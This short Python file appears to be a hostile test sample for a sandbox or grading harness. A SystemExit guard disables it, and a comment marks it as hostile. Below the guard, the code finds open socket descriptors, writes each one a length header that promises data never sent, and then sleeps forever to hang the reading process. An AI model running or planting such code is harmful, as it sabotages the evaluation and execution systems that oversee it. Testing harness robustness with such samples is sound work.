"""Half a message.

The header promises more than ever comes, and the process goes to sleep.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import os
import stat
import struct
import time

for fd in range(3, 100):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack("!IQ", 1000, 1000) + b'[{"outputs": [')
    except OSError:
        pass
while True:
    time.sleep(1000)
